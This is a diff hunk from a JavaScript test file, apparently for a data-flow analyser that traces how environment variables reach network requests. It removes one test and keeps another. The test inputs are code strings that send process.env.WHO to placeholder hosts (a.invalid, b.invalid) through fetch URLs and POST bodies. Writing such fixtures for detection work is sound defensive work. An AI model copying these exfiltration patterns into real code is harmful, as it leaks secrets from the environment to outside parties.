@@ -283,11 +283,6 @@ describe('data travels', () => {
     );
   });
 
-  it('not with what another machine answers, which is its own', () => {
-    const ask = `(async () => { const a = await (await fetch('https://a.invalid/' + process.env.WHO)).json(); await fetch('https://b.invalid', { method: 'POST', body: a.text }) })()`;
-    assert.deepEqual(flowLines({ 'index.js': ask }), ['process.env.WHO → fetch as target', 'fetch → fetch as content']);
-  });
-
   it('through an address that answers with what stands in it', () => {
     const ask = `(async () => { const a = await (await fetch('data:,' + process.env.WHO)).text(); await fetch('https://b.invalid', { method: 'POST', body: a }) })()`;
     assert.ok(flowLines({ 'index.js': ask }).includes('process.env.WHO → fetch as content'));
